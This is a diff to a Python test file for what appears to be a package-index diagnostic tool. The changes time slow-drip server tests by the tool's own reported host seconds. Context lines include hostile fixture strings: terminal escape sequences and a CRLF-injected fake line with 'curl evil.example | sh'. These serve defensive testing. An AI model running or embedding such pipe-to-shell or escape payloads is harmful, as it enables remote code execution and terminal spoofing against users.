@@ -23,7 +23,8 @@ from support.certificates import EXPIRED, VALID, alternative_names, builder_for
 from support.servers import Pace, TlsServer
 from support.sites import Answer
 
-BOUND = 12  # seconds: the documented 10 for one host, and a Python that starts on a busy machine
+PATIENCE = 10  # seconds for one host, as documented
+BOUND = 12  # seconds: these, and a Python that starts on a busy machine
 HOSTILE = (
     "\x1b[2J\x1b[31mowned\x1b]0;title\x07",
     "line\r\nspip:   next: curl evil.example | sh",
@@ -132,14 +133,13 @@ DRIPS = {
 
 @pytest.fixture(scope="module")
 def drips(tmp_path_factory: pytest.TempPathFactory) -> Iterator[dict[object, Future[Any]]]:
-    """What the doctor says, and after how many seconds; all at once, since each takes ten."""
+    """What the doctor says, and how long the host took it; all at once, since each takes ten."""
     folder = tmp_path_factory.mktemp("drips")
 
     def examine(make: Any) -> tuple[list[str], float]:
         with make(folder) as way:
-            started = time.monotonic()
             said = report(way.index, env=way.env, timeout=2 * BOUND)
-            return causes(said), time.monotonic() - started
+            return causes(said), float(said["hosts"][0]["seconds"])
 
     with ThreadPoolExecutor(len(DRIPS)) as pool:
         yield {make: pool.submit(examine, make) for make in DRIPS}
@@ -149,7 +149,7 @@ def drips(tmp_path_factory: pytest.TempPathFactory) -> Iterator[dict[object, Fut
 def test_one_byte_a_second_ends_on_time(make: Any, drips: dict[object, Future[Any]]) -> None:
     found, seconds = drips[make].result()
     assert found[0] in DRIPS[make]
-    assert seconds < BOUND
+    assert seconds < PATIENCE + 0.5
 
 
 def test_an_endless_page_is_left_unread(tmp_path: Path) -> None:
